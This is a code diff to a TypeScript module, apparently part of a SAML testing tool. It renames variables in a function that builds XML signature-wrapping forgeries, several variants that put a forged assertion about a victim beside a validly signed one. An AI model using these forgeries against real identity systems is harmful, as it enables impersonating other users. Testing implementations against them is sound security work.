@@ -1,10 +1,10 @@
-import type { SamlMischief, SamlState } from './saml-control.ts'
+import type { SamlAttackVariant, SamlState } from './saml-control.ts'
 
 /**
  * A signed response in which what is signed and what a careless reader reads are two things (the signature wrapping that
  * Somorovsky and others described in 2012): the signature stays valid, and beside it stands an assertion about the victim.
  */
-export function wrapped(xml: string, { mischief, nameId, victim }: SamlState): string {
+export function wrapped(xml: string, { attackVariant, nameId, victim }: SamlState): string {
   const assertion = part(xml, 'saml:Assertion')
   const signature = part(assertion, 'Signature')
   const forgedWith = (inside: string) =>
@@ -15,7 +15,7 @@ export function wrapped(xml: string, { mischief, nameId, victim }: SamlState): s
   const forged = forgedWith('')
   const unsigned = assertion.replace(signature, '')
   const instead = (text: string) => xml.replace(assertion, () => text)
-  const variants: Partial<Record<SamlMischief, () => string>> = {
+  const variants: Partial<Record<SamlAttackVariant, () => string>> = {
     'wrapped: another assertion before the signed one': () => instead(forged + assertion),
     'wrapped: another assertion after the signed one': () => instead(assertion + forged),
     'wrapped: the signed one inside another': () =>
@@ -38,8 +38,8 @@ export function wrapped(xml: string, { mischief, nameId, victim }: SamlState): s
         .replace('</samlp:Response>', () => `${xml}</samlp:Response>`)
         .replace(/ ID="[^"]+"/, ' ID="_outer0123456789"'),
   }
-  const made = mischief && variants[mischief]?.()
-  if (!made?.includes(victim)) throw new Error(`${mischief} forged nothing`)
+  const made = attackVariant && variants[attackVariant]?.()
+  if (!made?.includes(victim)) throw new Error(`${attackVariant} forged nothing`)
   return made
 }
 
